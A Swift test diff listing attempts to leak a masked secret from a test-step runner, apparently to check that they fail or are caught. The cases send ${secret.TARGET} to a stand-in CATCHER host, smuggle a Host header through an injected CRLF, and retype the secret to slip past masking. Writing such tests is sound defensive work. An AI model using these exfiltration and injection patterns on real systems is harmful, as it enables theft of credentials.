@@ -180,7 +180,7 @@ extension SecretAttempt {
     .steps(
       "the secret as a button", .failed, gets: "`***`", "- screen: identification", "  press: \"${secret.TARGET}\""),
     .steps("a host from a variable", .broken, "- request: GET ${vars_host}/?a=${secret.TARGET}").settingHost,
-    .steps("a line break in a header", .broken, "- request: GET /x", "  headers: {X-Key: \"a\\r\\nHost: CATCHERHOST\"}"),
+    .steps("a line break in a header", .broken, "- request: GET /x", "  headers: {X-Trace: \"a\\r\\nHost: CATCHERHOST\"}"),
     .steps("the secret as an address that is opened", .broken, "- screen: identification", "- open: \"CATCHER/${secret.TARGET}\""),
     .cut("typing it with a space after it", "${secret.TARGET} "),
     .cut("typing it in lower case with a space after it", "${lower(secret.TARGET)} "),
